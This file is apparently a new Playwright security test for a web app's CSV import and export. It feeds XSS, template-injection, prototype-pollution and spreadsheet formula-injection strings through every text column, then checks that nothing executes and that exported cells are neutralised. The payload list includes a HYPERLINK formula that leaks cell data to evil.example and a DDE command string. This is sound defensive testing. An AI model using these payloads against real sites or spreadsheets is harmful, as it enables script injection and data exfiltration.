@@ -1,0 +1,129 @@
+import { readFile } from 'node:fs/promises';
+import type { Page } from '@playwright/test';
+import Papa from 'papaparse';
+import { TARGET_FIELDS, type ImportKind } from '../src/features/imports/domain/importFields.ts';
+import { expect, test } from './fixtures.ts';
+import { importFile, openImports, type GivenFile } from './importing.ts';
+
+/** Texts that would run, break out or compute where somebody forgot to treat them as text. */
+const HOSTILE = [
+  '<img src=x onerror="window.ran=1">',
+  '=HYPERLINK("http://evil.example/?"&A1,"see")',
+  '"><script>window.ran=1</script>',
+  "+cmd|' /C calc'!A0",
+  'javascript:window.ran=1',
+  '@SUM(1+1)*cmd',
+  '{{constructor.constructor("window.ran=1")()}}',
+  '-2+3+cmd',
+  '__proto__',
+];
+const FORMULA = /^[\t\r=+\-@＝＋－＠]/;
+const NUMBER = /^[-+]?[\d,.]+%?$/;
+
+/** Columns that a file of the kind needs to be numbers, times or known words. */
+const PLAIN: Readonly<Record<string, (row: number) => string>> = {
+  placedAt: (row) => `2026-0${1 + (row % 6)}-11 10:00`,
+  at: (row) => `2026-03-0${1 + (row % 6)} 10:00`,
+  createdAt: () => '2026-01-01',
+  launchedAt: () => '2026-01-01',
+  shippedAt: () => '2026-03-02 10:00',
+  promisedAt: () => '2026-03-04 10:00',
+  deliveredAt: () => '2026-03-05 10:00',
+  requestedAt: () => '2026-03-06 10:00',
+  resolvedAt: () => '2026-03-07 10:00',
+  quantity: () => '1',
+  unitPrice: () => '12.50',
+  amount: () => '12.50',
+  price: () => '12.50',
+  cost: () => '5.00',
+  stock: () => '3',
+  currency: () => 'EUR',
+  rating: (row) => String(1 + (row % 5)),
+  type: () => 'view',
+  result: () => '',
+  status: () => '',
+};
+/** Two columns that together say when; `placedAt` says it alone. */
+const LEFT_OUT = new Set(['placedDate', 'placedTime', 'kind']);
+
+function hostileFile(kind: ImportKind): GivenFile {
+  const fields = TARGET_FIELDS[kind].filter((field) => !LEFT_OUT.has(field));
+  const rows = HOSTILE.flatMap((text, i) =>
+    // Each customer twice, so that somebody comes back.
+    [0, 1].map((again) =>
+      fields.map((field) => {
+        const plain = PLAIN[field];
+        if (plain) return plain(i + again);
+        return field === fields[0] ? `${text} ${i}.${again}` : text;
+      }),
+    ),
+  );
+  const once = kind === 'customers' || kind === 'products';
+  return {
+    name: `${kind} <b>=1+1</b>.csv`,
+    contents: Papa.unparse({
+      fields: [...fields],
+      data: once
+        ? rows.filter((_, i) => i % 2 === 0).map(([, ...rest], i) => [HOSTILE[i] ?? '', ...rest])
+        : rows,
+    }),
+  };
+}
+
+async function nothingRan(page: Page, where: string): Promise<void> {
+  expect(await page.evaluate(() => 'ran' in window), `script run on ${where}`).toBe(false);
+  expect(await page.locator('main img, main script, main iframe').count(), where).toBe(0);
+}
+
+test('scripts and formulas in every text column stay text, on every page and in exports', async ({
+  page,
+}) => {
+  test.setTimeout(240_000);
+  await openImports(page);
+  const kinds: ImportKind[] = [
+    'orders',
+    'customers',
+    'products',
+    'events',
+    'shipments',
+    'returns',
+    'reviews',
+  ];
+  for (const kind of kinds) {
+    await importFile(page, hostileFile(kind));
+    await nothingRan(page, `the import of ${kind}`);
+  }
+  const base = /^.*\/s\/[^/]+/.exec(page.url())?.[0] ?? '';
+  const paths = [
+    '/',
+    '/retention?minSize=1',
+    '/retention/rows?minSize=1&number=customers',
+    '/retention/definitions',
+    '/retention/settings',
+    '/retention/loyalty',
+    '/customers/0',
+    '/customers/1',
+    '/imports',
+    '/audit',
+    '/settings',
+  ];
+  for (const path of paths) {
+    await page.goto(base + path);
+    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
+    await page.waitForLoadState('networkidle');
+    await nothingRan(page, path);
+  }
+
+  await page.goto(`${base}/retention?minSize=1`);
+  const products = page.getByRole('region', { name: 'First products that lead to a second order' });
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    products.getByRole('button', { name: /Download/ }).click(),
+  ]);
+  const csv = await readFile(await download.path(), 'utf8');
+  const { data } = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''));
+  const cells = data.flat();
+  expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
+  expect(cells.filter((cell) => FORMULA.test(cell) && !NUMBER.test(cell))).toEqual([]);
+  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
+});
